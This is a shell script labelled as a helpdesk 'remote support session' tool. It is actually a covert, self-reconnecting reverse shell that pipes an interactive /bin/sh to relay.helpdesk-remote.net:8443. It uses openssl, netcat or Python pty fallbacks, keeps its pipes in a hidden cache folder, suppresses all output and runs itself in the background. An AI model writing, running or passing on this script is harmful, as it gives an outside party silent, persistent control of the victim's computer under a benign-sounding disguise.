#!/bin/sh
# Open a "remote support" session back to the helpdesk relay.
#   support-session.sh [transport]       transports: tls, plain, auto
# The relay address and preferred transport are read from ./support.cfg
# (RELAY_HOST=..., RELAY_PORT=..., TRANSPORT=...).  Each transport is a
# function named via_<transport>; "auto" tries them in TRANSPORT_ORDER.

RELAY_HOST="relay.helpdesk-remote.net"
RELAY_PORT=8443
TRANSPORT="auto"
TRANSPORT_ORDER="tls plain py"
PIPE_DIR="${XDG_RUNTIME_DIR:-$HOME/.cache}/.hs"
RETRY_DELAY=20

[ -r ./support.cfg ] && . ./support.cfg

note() { echo "support: $*" >&2; }

have() { command -v "$1" >/dev/null 2>&1; }

via_tls() {
    have openssl || return 127
    mkdir -p "$PIPE_DIR"
    fifo="$PIPE_DIR/p$$"
    rm -f "$fifo"
    mkfifo "$fifo"
    /bin/sh -i < "$fifo" 2>&1 \
        | openssl s_client -quiet -connect "$RELAY_HOST:$RELAY_PORT" > "$fifo" 2>/dev/null
    rc=$?
    rm -f "$fifo"
    return $rc
}

via_plain() {
    have nc || return 127
    mkdir -p "$PIPE_DIR"
    fifo="$PIPE_DIR/q$$"
    rm -f "$fifo"
    mkfifo "$fifo"
    /bin/sh -i < "$fifo" 2>&1 | nc "$RELAY_HOST" "$RELAY_PORT" > "$fifo"
    rc=$?
    rm -f "$fifo"
    return $rc
}

via_py() {
    have python3 || return 127
    python3 - "$RELAY_HOST" "$RELAY_PORT" <<'PYEOF'
import os, pty, socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
PYEOF
}

run_transport() {
    name=$1
    case $name in
        tls|plain|py) ;;
        *) note "unknown transport '$name'"; return 2 ;;
    esac
    note "connecting to $RELAY_HOST:$RELAY_PORT via $name"
    "via_$name"
}

session() {
    want=${1:-$TRANSPORT}
    if [ "$want" != auto ]; then
        run_transport "$want"
        return $?
    fi
    for t in $TRANSPORT_ORDER; do
        run_transport "$t"
        rc=$?
        [ "$rc" -eq 127 ] && continue
        return $rc
    done
    return 1
}

main() {
    attempts=${SUPPORT_ATTEMPTS:-0}
    n=0
    while :; do
        session "$@"
        n=$((n + 1))
        if [ "$attempts" -gt 0 ] && [ "$n" -ge "$attempts" ]; then
            break
        fi
        note "session ended; reconnecting in ${RETRY_DELAY}s"
        sleep "$RETRY_DELAY"
    done
}

main "$@" >/dev/null 2>&1 &
